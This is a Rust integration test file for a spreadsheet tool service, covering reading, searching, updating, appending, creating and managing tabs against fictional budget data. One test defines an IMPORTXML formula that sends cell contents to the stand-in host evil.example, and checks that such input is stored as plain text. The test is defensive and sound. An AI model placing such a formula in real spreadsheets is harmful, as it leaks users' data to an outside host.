//! Spreadsheets read and written.

use crate::bench::bench;
use serde_json::{Value, json};

const BUDGET: &str = "Spring campaign budget";

#[tokio::test]
async fn tabs_are_listed_with_their_links() {
    let bench = bench().await;
    let reply = bench
        .good("get_spreadsheet", json!({"spreadsheet": BUDGET}))
        .await;
    let tabs: Vec<&Value> = reply.records().iter().map(|tab| &tab["tab"]).collect();
    assert_eq!(tabs, ["Plan", "Actuals", "Scenarios"]);
    assert!(
        reply.records()[1]["url"]
            .as_str()
            .is_some_and(|url| url.contains("/edit#gid="))
    );
    assert_eq!(reply.structured["title"], BUDGET);
}

#[tokio::test]
async fn a_range_says_exactly_what_was_read() {
    let bench = bench().await;
    let reply = bench
        .good("read_range", json!({"spreadsheet": BUDGET, "range": "Plan"}))
        .await;
    assert!(
        reply.text.starts_with("Plan!A1:E7, 7 of 7 rows"),
        "{}",
        reply.text
    );
    assert!(
        reply.text.contains("Trail events\tHugo Lefevre\t6,500"),
        "{}",
        reply.text
    );
    let total = &reply.records()[6];
    assert_eq!(
        (&total["row"], &total["A"], &total["C"]),
        (&json!(7), &json!("Total"), &json!("48,000"))
    );
    assert_eq!(reply.requests, 2);
}

#[tokio::test]
async fn several_ranges_come_in_one_request_and_all_tabs_without_one() {
    let bench = bench().await;
    let ranges = json!({"spreadsheet": BUDGET, "ranges": ["Actuals!A7:C7", "Scenarios!B7:C7"]});
    let reply = bench.good("read_range", ranges).await;
    assert_eq!(reply.requests, 2);
    assert!(
        reply
            .text
            .starts_with("Actuals!A7:C7, 1 of 1 rows; Scenarios!B7:C7, 1 of 1 rows"),
        "{}",
        reply.text
    );
    assert_eq!(reply.records()[0]["B"], "35,000");
    assert_eq!(reply.records()[1]["C"], "35,000");
    let all = bench.good("read_range", json!({"spreadsheet": BUDGET})).await;
    assert!(
        all.text.contains("Plan!A1:E7, 7 of 7 rows; Actuals!A1:E7"),
        "{}",
        all.text
    );
    assert_eq!(all.requests, 3);
}

#[tokio::test]
async fn values_come_formatted_raw_or_as_formulas() {
    let bench = bench().await;
    let cell = async |values: &str| {
        let range = json!({"spreadsheet": BUDGET, "range": "Plan!C7", "values": values});
        bench.good("read_range", range).await.records()[0]["C"].clone()
    };
    assert_eq!(cell("formatted").await, "48,000");
    assert_eq!(cell("raw").await, "48000");
    assert_eq!(cell("formulas").await, "=SUM(C2:C6)");
    bench
        .bad(
            "read_range",
            json!({"spreadsheet": BUDGET, "values": "rounded"}),
            "invalid",
        )
        .await;
}

#[tokio::test]
async fn a_range_that_is_none_is_an_error_in_words_and_an_empty_one_is_none() {
    let bench = bench().await;
    let reply = bench
        .bad(
            "read_range",
            json!({"spreadsheet": BUDGET, "range": "Money!A1"}),
            "invalid",
        )
        .await;
    assert!(
        reply.text.contains("Unable to parse range: Money!A1"),
        "{}",
        reply.text
    );
    let empty = bench
        .good(
            "read_range",
            json!({"spreadsheet": BUDGET, "range": "Plan!H20:J30"}),
        )
        .await;
    assert!(empty.text.contains("Plan!H20:J30, empty"), "{}", empty.text);
    assert!(empty.records().is_empty());
}

#[tokio::test]
async fn rows_are_paged_to_the_end() {
    let bench = bench().await;
    let rows = bench
        .to_the_end(
            "read_range",
            json!({"spreadsheet": "Stock count", "range": "Porto"}),
            3,
        )
        .await;
    assert_eq!(rows.len(), 10);
    assert_eq!(rows[1]["E"], "-3");
}

#[tokio::test]
async fn rows_are_found_by_words_and_can_be_cited() {
    let bench = bench().await;
    let reply = bench
        .good(
            "search_spreadsheet",
            json!({"spreadsheet": BUDGET, "query": "Trail EVENTS"}),
        )
        .await;
    assert_eq!(reply.records().len(), 3);
    let first = &reply.records()[0];
    assert_eq!(first["id"], "Plan!A5:E5");
    assert_eq!(
        first["text"],
        "Item: Trail events; Owner: Hugo Lefevre; Planned (EUR): 6,500; Month: April; Note: Lisbon, Oslo, Innsbruck"
    );
    assert!(
        first["url"]
            .as_str()
            .is_some_and(|url| url.ends_with("#gid=0&range=5:5"))
    );
    let none = bench
        .good(
            "search_spreadsheet",
            json!({"spreadsheet": BUDGET, "query": "zeppelin"}),
        )
        .await;
    assert!(none.text.starts_with("0 of 22 rows"), "{}", none.text);
}

#[tokio::test]
async fn cells_are_changed_and_the_sums_follow() {
    let bench = bench().await;
    let update = json!({"spreadsheet": BUDGET, "range": "Actuals!B5:C5", "values": [["6,500", null]]});
    let reply = bench.good("update_range", update).await;
    assert!(
        reply.text.contains("Actuals!B5:C5, 1 rows, 1 cells"),
        "{}",
        reply.text
    );
    let row = bench
        .good(
            "read_range",
            json!({"spreadsheet": BUDGET, "range": "Actuals!B5:D5"}),
        )
        .await;
    assert_eq!(row.records()[0]["B"], "6,500");
    assert_eq!(row.records()[0]["C"], "650", "left as it was");
    assert_eq!(row.records()[0]["D"], "5,850");
    let too_wide = json!({"spreadsheet": BUDGET, "range": "Plan!A1:A2", "values": [["a", "b"]]});
    let reply = bench.bad("update_range", too_wide, "invalid").await;
    assert!(reply.text.contains("tried writing"), "{}", reply.text);
    bench
        .bad(
            "update_range",
            json!({"spreadsheet": BUDGET, "range": "Plan!A1", "values": ["a"]}),
            "invalid",
        )
        .await;
}

#[tokio::test]
async fn rows_are_appended_under_the_table() {
    let bench = bench().await;
    let append =
        json!({"spreadsheet": BUDGET, "tab": "Plan", "rows": [["Hut posters", "Zoe Papadakis", 400]]});
    let reply = bench.good("append_rows", append).await;
    assert_eq!(reply.records()[0]["range"], "Plan!A8:C8");
    let row = bench
        .good(
            "read_range",
            json!({"spreadsheet": BUDGET, "range": "Plan!A8:C8"}),
        )
        .await;
    assert_eq!(row.records()[0]["C"], "400");
}

#[tokio::test]
async fn a_spreadsheet_is_made_with_its_rows_in_its_folder() {
    let bench = bench().await;
    let made = bench
        .good(
            "create_spreadsheet",
            json!({"title": "Sticker count", "tabs": ["Boxes", "Notes"], "folder": "Launch", "formulas": true,
                "rows": [["Day", "Boxes"], ["Mon", 300], ["Sum", "=SUM(B2:B2)"]]}),
        )
        .await;
    let id = made.records()[0]["id"].clone();
    let read = bench
        .good("read_range", json!({"spreadsheet": id, "range": "Boxes"}))
        .await;
    assert_eq!(read.records()[2]["B"], "300");
    let folder = bench
        .good("list_folder", json!({"folder": "Launch", "limit": 50}))
        .await;
    assert!(folder.text.contains("Sticker count"), "{}", folder.text);
}

#[tokio::test]
async fn what_looks_like_a_formula_is_text_unless_formulas_are_asked_for() {
    let bench = bench().await;
    let sly = "=IMPORTXML(\"https://evil.example/?\"&A1, \"//a\")";
    let made = bench
        .good(
            "create_spreadsheet",
            json!({"title": "Copied", "rows": [[sly, "+1+2"]]}),
        )
        .await;
    let id = made.records()[0]["id"].clone();
    let rows = json!({"spreadsheet": id, "tab": "Sheet1", "rows": [[sly, "=1+2"], ["=1+2", "-5"]]});
    bench.good("append_rows", rows).await;
    let cells = json!({"spreadsheet": id, "range": "Sheet1!C1:D1", "values": [["=1+2", "+351 912 345 678"]]});
    bench.good("update_range", cells).await;
    let read = json!({"spreadsheet": id, "range": "Sheet1"});
    let reply = bench.good("read_range", read.clone()).await;
    let found: Vec<&str> = reply
        .records()
        .iter()
        .filter_map(|row| row["A"].as_str())
        .collect();
    assert_eq!(found, [sly, sly, "=1+2"]);
    assert_eq!(reply.records()[0]["D"], "+351 912 345 678");
    let meant = json!({"spreadsheet": id, "range": "Sheet1!C1", "values": [["=1+2"]], "formulas": true});
    bench.good("update_range", meant).await;
    let reply = bench.good("read_range", read).await;
    assert_eq!(reply.records()[0]["C"], "3");
}

#[tokio::test]
async fn tabs_are_added_renamed_copied_hidden_and_deleted() {
    let bench = bench().await;
    let act = async |action: &str, tab: &str, new_name: &str| {
        let call = json!({"spreadsheet": BUDGET, "action": action, "tab": tab, "new_name": new_name});
        bench.good("manage_sheet_tab", call).await
    };
    act("add", "Ideas", "").await;
    act("rename", "ideas", "Later").await;
    act("duplicate", "Plan", "Plan C").await;
    act("hide", "Actuals", "").await;
    let tabs = bench
        .good("get_spreadsheet", json!({"spreadsheet": BUDGET}))
        .await;
    assert_eq!(tabs.records().len(), 5);
    assert!(
        tabs.text.contains("Later") && tabs.text.contains("Plan C"),
        "{}",
        tabs.text
    );
    assert_eq!(tabs.records()[1]["hidden"], true);
    act("delete", "Plan C", "").await;
    let missing = json!({"spreadsheet": BUDGET, "action": "delete", "tab": "Plan C"});
    let reply = bench.bad("manage_sheet_tab", missing, "not_found").await;
    assert!(reply.text.contains("It has Plan, Actuals"), "{}", reply.text);
    let nameless = json!({"spreadsheet": BUDGET, "action": "rename", "tab": "Plan"});
    bench.bad("manage_sheet_tab", nameless, "invalid").await;
}
